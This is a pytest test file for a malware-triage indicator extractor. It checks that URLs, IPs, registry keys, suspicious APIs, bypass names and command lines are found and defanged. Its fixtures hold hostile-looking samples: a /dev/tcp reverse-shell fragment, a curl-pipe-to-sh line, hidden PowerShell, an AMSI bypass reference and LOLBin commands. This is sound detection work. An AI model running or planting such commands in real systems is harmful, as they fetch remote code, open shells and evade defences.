"""Clues of every kind are found, shown defanged, and ordinary text gives none."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from triage.content.clues import clues_in, defang
from triage.model import Layer


def _clues(text: bytes, kind: str = "powershell") -> set[tuple[str, str]]:
    return {(clue.kind, clue.value) for clue in clues_in(text, Layer(kind, len(text)))}


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        (b"x = 'http://203.0.113.7:8080/a.ps1'", "url", "http://203.0.113.7:8080/a.ps1"),
        (b"exec 5<>/dev/tcp/198.51.100.3/4444", "url", "/dev/tcp/198.51.100.3/4444"),
        (b"connect 203.0.113.9:443 now", "ip", "203.0.113.9:443"),
        (b"beacon.evil.example.com is up", "domain", "beacon.evil.example.com"),
        (b"gp 'HKCU:\\Software\\Classes\\x'", "registry", "HKCU:\\Software\\Classes\\x"),
        (
            b"$a = Get-ItemProperty -Path $k -Name v",
            "registry",
            "Get-ItemProperty -Path $k -Name v",
        ),
        (b'sh.RegRead("HKLM\\Software\\A\\B")', "registry", "HKLM\\Software\\A\\B"),
        (b'GetObject("winmgmts:root/cimv2")', "wmi", "winmgmts:root/cimv2"),
        (b"new __EventFilter here", "wmi", "__EventFilter"),
        (b'OpenMutexA(0, 0, "Global\\abc123")', "mutex", "Global\\abc123"),
        (b"[Kernel32]::VirtualAlloc(0, 4096)", "api", "VirtualAlloc"),
        (b"fd = memfd_create('', 1)", "api", "memfd_create"),
        (b"[Reflection.Assembly]::Load($b)", "reflective", "[Reflection.Assembly]::Load"),
        (b"os.execve('/proc/self/fd/3', [], {})", "reflective", "/proc/self/fd/"),
        (b"'System.Management.Automation.AmsiUtils'", "bypass", "AmsiUtils"),
        (b"patch EtwEventWrite", "bypass", "EtwEventWrite"),
        (b"cat /dev/shm/.hidden/x", "path", "/dev/shm/.hidden/x"),
        (b"copy C:\\Users\\Public\\a.dll", "path", "C:\\Users\\Public\\a.dll"),
    ],
)
def test_each_kind_of_clue_is_found(text: bytes, kind: str, value: str) -> None:
    assert (kind, value) in _clues(text)


def test_a_command_line_is_a_clue() -> None:
    found = _clues(b'Run("powershell.exe -nop -w hidden -c calc")')
    assert any(kind == "command" and "powershell.exe -nop" in value for kind, value in found)


def test_programs_are_searched_in_both_widths() -> None:
    data = b"\0\1\2" * 40 + b"WriteProcessMemory\0" + b"\3\4" * 9
    data += "http://evil.example.com/x".encode("utf-16-le") + b"\xff\xfe\xfd"
    found = _clues(data, "pe")
    assert ("api", "WriteProcessMemory") in found
    assert ("url", "http://evil.example.com/x") in found


@pytest.mark.parametrize(
    "text",
    [
        b"nothing of interest in this sentence at all",
        b"version 1.2.3.4 of 10.0.0.0 and 255.255.0.0",
        b"$x = [System.Text.Encoding]::ASCII; $y.Length",
        b"<a xmlns='http://www.w3.org/2000/svg'/>",
    ],
)
def test_ordinary_text_gives_no_addresses(text: bytes) -> None:
    assert not [clue for clue in _clues(text, "text") if clue[0] in ("url", "domain", "ip")]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("http://evil.example.com/a.b", "hxxp://evil[.]example[.]com/a.b"),
        ("https://203.0.113.7/x", "hxxps://203[.]0[.]113[.]7/x"),
        ("ftp://a.example.com/", "fxp://a[.]example[.]com/"),
        ("203.0.113.7:443", "203[.]0[.]113[.]7:443"),
        ("beacon.example.net", "beacon[.]example[.]net"),
        ("someone@example.com", "someone[@]example[.]com"),
        ("VirtualAlloc", "VirtualAlloc"),
        ("curl http://a.example.com/x | sh", "curl hxxp://a[.]example[.]com/x | sh"),
    ],
)
def test_values_are_shown_defanged(value: str, shown: str) -> None:
    assert defang(value) == shown


@settings(max_examples=80, deadline=None, derandomize=True)
@given(data=st.binary(max_size=800), kind=st.sampled_from(["pe", "text", "powershell", "data"]))
def test_clues_are_total_and_bounded(data: bytes, kind: str) -> None:
    found = clues_in(data, Layer(kind, len(data)), 3)
    assert len(found) <= 96
    assert all(clue.layer == 3 and 0 < len(clue.value) <= 400 for clue in found)


@pytest.mark.parametrize(
    "text",
    [
        b"shell           514/tcp         cmd syslog       # no passwords used",
        b"commands are given on the cmd line with, e.g., this",
        b"use curl or wget, whichever you like; curl - transfer a URL, of a kind",
        b"the reg key is in the list, powershell is a shell, you know, msbuild project file",
    ],
)
def test_words_of_prose_are_no_commands(text: bytes) -> None:
    assert "command" not in {kind for kind, _ in _clues(text, "text")}


@pytest.mark.parametrize(
    "line",
    [
        b"cmd /c whoami & calc",
        b"pwsh Get-Process | out-file x",
        b"mshta vbscript:Close(x)",
        b"rundll32 shell32.dll,Control_RunDLL x",
        b"reg add HKCU\\Software /v x",
        b"wmic process call create calc",
        b"curl 10.0.0.1/x -o y",
        b"cscript //b x.vbs ",
    ],
)
def test_commands_are_told_by_their_arguments(line: bytes) -> None:
    assert "command" in {kind for kind, _ in _clues(line, "text")}
